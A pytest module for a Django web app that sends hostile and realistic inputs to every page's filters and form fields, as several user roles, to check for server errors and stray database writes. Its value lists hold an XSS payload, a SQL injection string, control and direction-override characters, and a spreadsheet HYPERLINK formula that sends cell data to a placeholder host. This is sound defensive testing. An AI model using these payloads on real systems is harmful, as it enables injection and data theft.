"""The hostile-input sweep (issue 15): every page of the site, generated from the URL
resolver, is asked for with hostile values in its filters and posted hostile values in every
field of its forms, as five personas (officer, facilitator, programme, DPRD staff, admin).

Nothing may answer a server error, and a refused form (an answer of 200 with a field's
message, or 4xx) may write no row. The fields come from the page itself: each ``<form>`` of
its HTML, GET forms as filters, POST forms posted with their own values and one field at a
time replaced. Each field is sent a hostile value (``HOSTILE``) and a value real users
send (``HANDED``: NIK, phone numbers, amounts, names and dates as people type or paste
them). Both lists are rotated over the fields and personas (each field of a page gets one
value of each list per persona, a different one for each) to keep the sweep under two
minutes on SQLite. Text with a NUL byte is refused by PostgreSQL but stored by SQLite, so
every query of the sweep refuses it as PostgreSQL would. Rows and personas are those of the
access matrix (``tests/test_access.py``), each persona's requests in a savepoint rolled back
after them.
"""

import copy
import html.parser
import re
from urllib.parse import urlencode, urlsplit

import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from tests.test_access import TABLES, URL_NAMES, _arg, matrix  # noqa: F401 (the fixture)

pytestmark = pytest.mark.usefixtures("templates_not_recorded")


#: The personas swept (the columns of the access matrix that see most).
SWEPT = ("officer", "facilitator", "programme", "dprd", "admin")
#: Values a careless or hostile user sends.
HOSTILE = (
    "<script>alert(1)</script>",
    "' OR 1=1--",
    "a\x00b",
    "\u202etxt.exe",
    "🌾🙏🏽",
    "x" * 10_000,
    "2025-02-30",
    "-1",
    "99999999999999999999",
    "zzz-unknown",
    "\x1b[31mESC\x07",
)
#: Values real users send, as pasted from other systems or typed on a phone
#: (``../shared/cases/README.md``: forms, money, names, dates): a NIK with spaces or dots,
#: phone numbers in their three spellings, Indonesian amounts (one refused: "1,5 juta"),
#: single names, titles, a curly apostrophe, spreadsheet formulas, an Excel serial date, a
#: typed date and time, and a day that does not exist.
HANDED = (
    "3201 0123 4567 8901",
    "3201.0123.4567.8901",
    "081234567890",
    "+6281234567890",
    "6281234567890",
    "1.500.000",
    "617.666.666,66",
    "1,5 juta",
    "Rp 1.500.000",
    "Sumiyati",
    "Hj. Nurhayati Daeng Ngai, S.Pd., M.Si.",
    "Ma\u2019ruf Letsoin",
    '=HYPERLINK("http://example.invalid/?d="&B2,"Lihat")',
    "@SUM(1+1)",
    "45521",
    "17/08/2024 09:00",
    "31/02/2024",
)
#: Page numbers and filters every list is asked for, whether its form shows them or not.
ALWAYS = {"page": ("-1", "99999999999999999999"), "sort": ("zzz",)}
#: Pages that are not the product's pages: the browser's files, the language switch, sign
#: in and out, and Django's password pages.
SKIPPED = {
    "service_worker",
    "manifest",
    "offline_help",
    "set_language",
    "login",
    "logout",
    "password_change",
    "password_change_done",
    "password_reset",
    "password_reset_done",
    "password_reset_confirm",
    "password_reset_complete",
    # Stored files served whole: no input; the access matrix's files are gone after the
    # first test of the module (the media directory is made per test).
    "aspirations:attachment",
    "aspirations:attachment_thumbnail",
    "assistance:document",
    "assistance:document_thumbnail",
}
#: Rows a request may write whatever its form says: the session, and the access log of
#: personal data shown (``audit``).
WRITES_ALLOWED = ("django_session", "audit_")
WRITE = re.compile(r'^\s*(INSERT INTO|UPDATE|DELETE FROM)\s+"?(\w+)"?', re.IGNORECASE)


class Forms(html.parser.HTMLParser):
    """The ``<form>`` elements of a page: ``[(method, action, {name: [values]})]``; text
    inputs with their value, selects with their first option, checked boxes."""

    def __init__(self):
        super().__init__()
        self.forms = []
        self._select = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.forms.append(
                ((attrs.get("method") or "get").lower(), attrs.get("action") or "", {})
            )
        if not self.forms:
            return
        fields = self.forms[-1][2]
        name = attrs.get("name")
        if tag == "input" and name:
            kind = (attrs.get("type") or "text").lower()
            if kind in ("checkbox", "radio") and "checked" not in attrs:
                fields.setdefault(name, [])
            elif kind not in ("submit", "button", "file", "image", "reset"):
                fields.setdefault(name, []).append(attrs.get("value") or "")
            elif kind == "submit":
                fields.setdefault(name, []).append(attrs.get("value") or "1")
        elif tag == "textarea" and name:
            fields.setdefault(name, []).append("")
        elif tag == "select" and name:
            self._select = name
            fields.setdefault(name, [])
        elif tag == "option" and self._select and not fields[self._select]:
            fields[self._select].append(attrs.get("value") or "")
        elif tag == "button" and name:
            fields.setdefault(name, []).append(attrs.get("value") or "1")

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None


def forms_of(response):
    """The forms of an HTML ``response`` (``Forms.forms``), none for other content."""
    if not response["Content-Type"].startswith("text/html"):
        return []
    parser = Forms()
    parser.feed(response.content.decode())
    return parser.forms


def refuse_nul_as_postgresql(execute, sql, params, many, context):
    """An execute wrapper that fails as psycopg does on text holding NUL."""
    for value in params or ():
        if isinstance(value, str) and "\x00" in value:
            raise ValueError("A string literal cannot contain NUL (0x00) characters.")
    return execute(sql, params, many, context)


def writes(queries):
    """The tables written by ``queries`` (``CaptureQueriesContext.captured_queries``), less
    the session and the access log."""
    tables = set()
    for query in queries:
        match = WRITE.match(query["sql"])
        if match and not match.group(2).startswith(WRITES_ALLOWED):
            tables.add(match.group(2))
    return tables


def refused(response):
    """Whether ``response`` refuses what was sent: 4xx, or a page with a field's message."""
    if 400 <= response.status_code < 500:
        return True
    return response.status_code == 200 and b"errorlist" in response.content


def sweep_names():
    return [
        name
        for name in URL_NAMES
        if not name.startswith("admin:") and name not in SKIPPED and name in TABLES
    ]


class _Failed:
    """The answer of a request whose view raised: status 500 and the exception."""

    def __init__(self, error):
        self.status_code = 500
        self.error = error
        self.content = b""

    def __repr__(self):
        return f"{type(self.error).__name__}: {str(self.error)[:160]}"


def _ask(client, method, url, data=None):
    """``client.get`` or ``client.post``; an exception of the view becomes ``_Failed``."""
    try:
        return getattr(client, method)(url, data)
    except Exception as error:  # noqa: BLE001 (every error of a view is the finding)
        return _Failed(error)


def _status(response):
    return repr(response) if isinstance(response, _Failed) else str(response.status_code)


def _sweep_get(client, url, page, forms, seed):
    """GET ``url`` with each filter field of its GET forms set to a hostile value, then to a
    handed one, then all of them at once (hostile, then handed) with the page numbers and
    sort of ``ALWAYS``; a file (an export, a PDF)
    is asked for once, with those of ``ALWAYS``. Returns the failures seen."""
    names = sorted({name for method, _, fields in forms if method == "get" for name in fields})
    asks = [{name: value[0] for name, value in ALWAYS.items()}]
    if forms_of(page) or page["Content-Type"].startswith("text/html"):
        asks = [{name: value} for n, name in enumerate(names) for value in _values(seed, n)]
        for position, extreme in ((0, 0), (1, -1)):
            everything = {name: _values(seed, n)[position] for n, name in enumerate(names)}
            asks.append({**everything, **{name: value[extreme] for name, value in ALWAYS.items()}})
    failures = []
    for query in asks:
        response = _ask(client, "get", f"{url}?{urlencode(query)}")
        if response.status_code >= 500:
            failures.append(f"GET {url} {query!r:.120} → {_status(response)}")
    return failures


def _values(seed, n):
    """The values sent to the ``n``-th field of a page by the ``seed``-th persona: one of
    ``HOSTILE`` and one of ``HANDED``, rotated so that the personas send different ones."""
    return (HOSTILE[(seed * 3 + n) % len(HOSTILE)], HANDED[(seed * 5 + n) % len(HANDED)])


#: How many hostile posts each URL got, so that a sweep that found no form shows.
POSTED = {}


def _sweep_post(client, url, forms, seed):
    """POST each POST form of the page with one field at a time set to a hostile value,
    then to a handed one (``_values``); a refused post must write no row. Returns the failures."""
    failures = []
    for method, action, fields in forms:
        if method != "post":
            continue
        target = urlsplit(action).path or url
        base = {name: values for name, values in fields.items() if values}
        for n, name in enumerate(sorted(fields)):
            if name in ("csrfmiddlewaretoken", "submission_token"):
                continue
            for value in _values(seed, n):
                data = {**base, name: value}
                with transaction.atomic(), CaptureQueriesContext(connection) as queries:
                    response = _ask(client, "post", target, data)
                    POSTED[url] = POSTED.get(url, 0) + 1
                    transaction.set_rollback(True)
                if response.status_code >= 500:
                    failures.append(f"POST {target} {name}={value!r:.60} → {_status(response)}")
                elif refused(response) and writes(queries.captured_queries):
                    failures.append(
                        f"POST {target} {name}={value!r:.60} refused but wrote "
                        f"{sorted(writes(queries.captured_queries))}"
                    )
    return failures


@pytest.mark.django_db
@pytest.mark.parametrize("name", sweep_names())
def test_no_server_error_and_no_write_on_hostile_input(matrix, name):  # noqa: F811
    access = TABLES[name]
    url = reverse(name, args=[_arg(matrix.rows, arg) for arg in access.args])
    failures = []
    with connection.execute_wrapper(refuse_nul_as_postgresql):
        for seed, persona in enumerate(SWEPT):
            client = matrix.clients[persona]
            cookies = copy.deepcopy(client.cookies)
            with transaction.atomic():
                page = _ask(client, "get", url)
                if page.status_code >= 500:
                    failures.append(f"{persona}: GET {url} → {_status(page)}")
                forms = forms_of(page) if page.status_code == 200 else []
                if page.status_code < 500:
                    failures += [
                        f"{persona}: {failure}"
                        for failure in _sweep_get(client, url, page, forms, seed)
                    ]
                failures += [
                    f"{persona}: {failure}" for failure in _sweep_post(client, url, forms, seed)
                ]
                transaction.set_rollback(True)
            client.cookies = cookies

    assert failures == []
    if name.endswith("create"):
        assert POSTED.get(url, 0) >= 5, f"{name}: the sweep found no form to post"
